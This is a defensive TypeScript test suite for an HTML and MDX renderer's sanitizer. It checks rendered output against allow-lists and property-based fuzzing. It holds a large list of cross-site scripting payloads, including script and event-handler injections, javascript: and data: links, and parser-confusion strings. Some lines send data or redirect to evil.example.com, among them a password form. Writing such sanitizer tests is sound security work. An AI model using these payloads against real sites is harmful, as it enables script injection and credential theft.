import fc from 'fast-check';
import { type HtmlElement, Parser, StaticConfigLoader } from 'html-validate';
import { expect, test } from 'vitest';
import { MdxSyntaxError } from './parse.ts';
import { renderBody, type RenderContext, renderComment } from './render.ts';

// The oracle parses with html-validate, which shares no code with the renderer, and knows only
// these lists: what is not named here must not come out, whatever goes in.
const elements = new Set(
  'a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p picture pre q rp rt ruby s samp section small source span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
    ' ',
  ),
);
const attributes = new Set(
  'alt aria-describedby aria-label checked class colspan data-align data-footnote-backref data-footnote-ref data-footnotes data-language datetime decoding dir disabled height href id lang loading open rel reversed role rowspan scope sizes span src srcset start tabindex title type value width'.split(
    ' ',
  ),
);
const classes =
  /^(alert(-\w+)*|pull-quote(-by)?|code-[a-z-]+|external|footnotes|sr-only|scroll|data-footnote-backref|contains-task-list|task-list-item)$/;

const surroundings: RenderContext = {
  base: '/hub/',
  links: {},
  pictures: { './pot.png': { name: 'abc', width: 96, height: 96, widths: [96] } },
};
const config = await new StaticConfigLoader().getConfigFor('body.html');

/** Everything in rendered HTML that could run, load or lead where it should not. */
function findDanger(html: string): string[] {
  const found: string[] = [];
  const visit = (parent: HtmlElement) => {
    for (const node of parent.childElements) {
      if (!elements.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const { key, value } of node.attributes) {
        const text = decode(String(value ?? ''));
        const isSafe =
          attributes.has(key) &&
          (key !== 'href' || /^(#|https?:\/\/|\/hub\/)/.test(text)) &&
          (key !== 'src' || /^\/hub\/_images\/[\w.-]+$/.test(text)) &&
          (key !== 'srcset' || /^\/hub\/_images\/[\w.-]+ \d+w$/.test(text)) &&
          (key !== 'class' || text.split(' ').every((name) => name === '' || classes.test(name)));
        if (!isSafe) found.push(`<${node.tagName} ${key}="${text}">`);
      }
      visit(node);
    }
  };
  visit(new Parser(config).parseHtml(html));
  return found;
}

const decode = (text: string) =>
  text.replace(/&#x([\da-f]+);/gi, (_, code: string) =>
    String.fromCodePoint(Number.parseInt(code, 16)),
  );

async function renderMdx(body: string): Promise<string> {
  try {
    return (await renderBody(body, true, surroundings)).html;
  } catch (error) {
    if (error instanceof MdxSyntaxError) return '';
    throw error;
  }
}

async function findDangerEverywhere(text: string): Promise<string[]> {
  const places = [
    text,
    `Words ${text} words.`,
    `- ${text}`,
    `## ${text}`,
    `> ${text}`,
    `| ${text} |\n|---|\n| ${text} |`,
    `[${text}](https://example.org)`,
    `![${text}](./pot.png "${text}")`,
    `\`\`\`html\n${text}\n\`\`\``,
    `Note[^a].\n\n[^a]: ${text}`,
    `<div>\n${text}\n</div>`,
  ];
  const bodies = await Promise.all(
    places.map(async (place) => (await renderBody(`${place}\n`, false, surroundings)).html),
  );
  return [
    ...bodies,
    renderComment(text),
    await renderMdx(`${text}\n`),
    await renderMdx(`<Callout>\n\n${text}\n\n</Callout>\n`),
  ].flatMap(findDanger);
}

test('the oracle sees danger where there is some', () => {
  expect(
    findDanger(
      '<p onclick="a()" style="x">a</p><script>b</script><svg></svg><a href="javascript:c">c</a><a href="//evil.example.com">d</a><img src="https://evil.example.com/x"><picture><source srcset="https://evil.example.com/x 1w"></picture><p class="card">e</p><a href="&#x6a;avascript:f">f</a>',
    ),
  ).toHaveLength(10);
});

const payloads: Record<string, string[]> = {
  'elements that run code': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example.com/x.js></SCRIPT>',
    '<script/x>alert(1)</script >',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script\n>alert(1)</script\n>',
    '<<script>alert(1)//<</script>',
    '<script>alert(1)',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:text/javascript,alert(1)"/></svg>',
    '<math><script>alert(1)</script></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<applet code="x"></applet>',
    '<portal src="https://evil.example.com/"></portal>',
    '<frameset onload=alert(1)><frame src="https://evil.example.com/"></frameset>',
    '<link rel="import" href="https://evil.example.com/x">',
    '<xml><i onclick=alert(1)>x</i></xml>',
    '<x-widget onconnected=alert(1)>x</x-widget>',
  ],
  handlers: [
    '<p onclick=alert(1)>x</p>',
    '<p OnClIcK="alert(1)">x</p>',
    '<p/onclick=alert(1)>x</p>',
    '<p\nonmouseover\n=\nalert(1)>x</p>',
    '<p title="a"onclick="alert(1)">x</p>',
    '<p title=`a`onclick=alert(1)>x</p>',
    "<p title='a' onclick='alert(1)'>x</p>",
    '<p "onclick="alert(1)">x</p>',
    '<img src="./pot.png" alt="a" onerror=alert(1)>',
    '<img src=x alt=a onerror=alert(1)//',
    '<img """><b onclick=alert(1)>x</b>">',
    '<body onload=alert(1)>x',
    '<svg/onload=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName=onmouseover to=alert(1)>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)><option>x</select>',
    '<textarea autofocus onfocus=alert(1)>x</textarea>',
    '<video onerror=alert(1)><source src=x></video>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<b onpointerrawupdate=alert(1) onbeforematch=alert(1) hidden=until-found>x</b>',
    '<div popover onbeforetoggle=alert(1) id=x>x</div><button popovertarget=x>y</button>',
    '<td onclick=alert(1)>x</td>',
  ],
  'addresses that run code': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://example.org/x">x</a>',
    '<a href="filesystem:https://example.org/x">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="//evil.example.com/x">x</a>',
    '<a href="\\\\evil.example.com/x">x</a>',
    '<a href="/\\evil.example.com/x">x</a>',
    '<a href="/&#9;/evil.example.com/x">x</a>',
    '<a href="https:evil.example.com">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<area href="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="javascript:alert(1)//">',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '[x](javascript:alert(1))',
    '[x](JAVASCRIPT&colon;alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '[x](data:text/html,a)',
    '[x](//evil.example.com)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '[x](https://example.org "a\\" onclick=alert(1) b=\\"")',
    '[x](https://example.org/"onclick=alert(1)//)',
    '![a" onerror="alert(1)](./pot.png)',
  ],
  styles: [
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    '<style>@import "https://evil.example.com/x.css";</style>',
    '<style><!--</style><script>alert(1)</script>-->',
    '<link rel=stylesheet href=https://evil.example.com/x.css>',
    '<table background="https://evil.example.com/x"><tr><td style="text-align: right;color:red">x</td></tr></table>',
    '<font color=red face="x">x</font>',
    '<p class="site-header dialog">x</p>',
  ],
  'things that load or send': [
    '<img src="https://evil.example.com/x.png" alt="a">',
    '<img src="//evil.example.com/x.png" alt="a">',
    '<img srcset="https://evil.example.com/x.png 2x" src="./pot.png" alt="a">',
    '<img src="./pot.png" alt="a" lowsrc="https://evil.example.com/x" longdesc="javascript:alert(1)" usemap="#x">',
    '<picture><source srcset="https://evil.example.com/x.png"><img src="./pot.png" alt="a"></picture>',
    '<video src="https://evil.example.com/x.mp4" poster="https://evil.example.com/x.png"></video>',
    '<audio src="https://evil.example.com/x.mp3"></audio>',
    '<input type=image src="https://evil.example.com/x.png">',
    '<meta http-equiv=refresh content="0;url=https://evil.example.com/">',
    '<form action=https://evil.example.com/><input name=password type=password></form>',
    '<a href="https://example.org" ping="https://evil.example.com/" target="_top" download>x</a>',
    '<svg><image href="https://evil.example.com/x.png"/><use href="data:image/svg+xml,x#x"/></svg>',
    '<link rel=preload href=https://evil.example.com/x as=image>',
    '<dialog open>x</dialog>',
    '<slot name=x></slot>',
    '<template shadowrootmode=open><script>alert(1)</script></template>',
    '![x](https://evil.example.com/x.png)',
    '![x](//evil.example.com/x.png)',
  ],
  'parsers that disagree': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><svg onload=alert(1)>">',
    '<plaintext><script>alert(1)</script>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--!><script>alert(1)</script><!-->',
    '<!-- --!><img src=x onerror=alert(1)>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script><?x <img src=x onerror=alert(1)>?>',
    '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
    '<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<p title="\n\n[x](javascript:alert(1))\n\n">x</p>',
    "<p title='\"><script>alert(1)</script>'>x",
    '<table><td><script>alert(1)</script><caption><tr><style></table><img src=x onerror=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '`<script>alert(1)</script>`',
    '\\<script>alert(1)</script>',
    '<hub-component data-index="0">x</hub-component>',
    '<img src="x\u0000" alt="a"\u0000onerror=alert(1)>',
    '<\u0000script>alert(1)</script>',
    '<ſcript>alert(1)</ſcript>',
    '<a\u000chref=javascript:alert(1)>x</a>',
    '\uFEFF<script>alert(1)</script>',
  ],
  'frameworks and templates': [
    '{{constructor.constructor("alert(1)")()}}',
    '\x24{alert(1)}',
    '<div v-html="x" x-on:click="alert(1)" @click="alert(1)" hx-get="/x" ng-app>x</div>',
    '<p data-astro-cid="x" slot="y" is="z">x</p>',
    '<astro-island component-url="data:text/javascript,alert(1)" client="load"></astro-island>',
    '{alert(1)}',
    '<Callout onclick={alert(1)}>x</Callout>',
    '<Callout title="<img src=x onerror=alert(1)>">\n\nx\n\n</Callout>',
    '<Figure src="./pot.png" alt="&quot; onerror=alert(1)" />',
    '<Figure src="javascript:alert(1)" alt="a" />',
    'export const a = alert(1)',
  ],
};

for (const [name, list] of Object.entries(payloads)) {
  test.each(list)(`${name} come to nothing wherever they stand: %j`, async (payload) => {
    expect(await findDangerEverywhere(payload)).toEqual([]);
  });
}

test('what an author may write in HTML comes through', async () => {
  const html =
    '<p dir="rtl" lang="ar">a <kbd>b</kbd> <mark>c</mark> <abbr title="d">e</abbr> <time datetime="2026-01-01">f</time> <a href="https://example.org" title="g">h</a></p>';
  const { html: rendered } = await renderBody(html, false, surroundings);
  expect(rendered).toBe(
    html.replace('title="g"', 'title="g" rel="noopener nofollow ugc" class="external"'),
  );
});

const piece = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      '<',
      '>',
      '</',
      '/>',
      '"',
      "'",
      '`',
      '=',
      ' ',
      '\n',
      '\n\n',
      '\t',
      '\0',
      '&',
      ';',
      ':',
      '(',
      ')',
      '[',
      ']',
      '!',
      '#',
      '|',
      '- ',
      '> ',
      '```',
      '~~~',
      '{',
      '}',
      '\\',
      '<!--',
      '-->',
      '--!>',
      '<![CDATA[',
      ']]>',
      '<?',
      '%3C',
      '&lt;',
      '&#x6a;',
      '&NewLine;',
    ),
  },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'script',
      'style',
      'svg',
      'math',
      'mtext',
      'mglyph',
      'annotation-xml',
      'foreignObject',
      'title',
      'textarea',
      'noscript',
      'template',
      'select',
      'option',
      'iframe',
      'object',
      'embed',
      'form',
      'input',
      'img',
      'a',
      'p',
      'div',
      'table',
      'td',
      'pre',
      'code',
      'details',
      'summary',
      'b',
      'li',
      'h1',
      'video',
      'base',
      'meta',
      'Callout',
      'Figure',
      'hub-component',
    ),
  },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      ' onerror=alert(1) ',
      ' onclick="alert(1)" ',
      ' style="x:y" ',
      ' href="javascript:alert(1)" ',
      ' href=//evil.example.com ',
      ' src=x ',
      ' src="https://evil.example.com/x" ',
      ' srcset=x ',
      ' xlink:href=data:x ',
      ' id=x ',
      ' class=card ',
      ' name=x ',
      ' data-index=0 ',
      'javascript:',
      'data:',
      'alert(1)',
      './pot.png',
      'https://example.org',
    ),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 6, unit: 'binary' }) },
);

const document = fc.array(piece, { minLength: 1, maxLength: 40 }).map((pieces) => pieces.join(''));

test(
  'no mixture of pieces comes out of a body, an MDX body or a comment as danger',
  { timeout: 600_000 },
  async () => {
    await fc.assert(
      fc.asyncProperty(document, async (text) => {
        const { html } = await renderBody(text, false, surroundings);
        expect([html, await renderMdx(text), renderComment(text)].flatMap(findDanger)).toEqual([]);
      }),
      { numRuns: 1500 },
    );
  },
);

const tag = fc
  .tuple(
    fc.constantFrom('<', '</'),
    piece,
    fc.array(piece, { maxLength: 4 }),
    fc.constantFrom('>', '/>', ' >', ''),
  )
  .map(([open, name, rest, close]) => open + name + rest.join('') + close);

test('no soup of tags comes out as danger', { timeout: 600_000 }, async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.oneof(tag, piece), { minLength: 2, maxLength: 16 }),
      async (tags) => {
        const text = tags.join('');
        const { html } = await renderBody(text, false, surroundings);
        expect([html, renderComment(text)].flatMap(findDanger)).toEqual([]);
      },
    ),
    { numRuns: 1500 },
  );
});
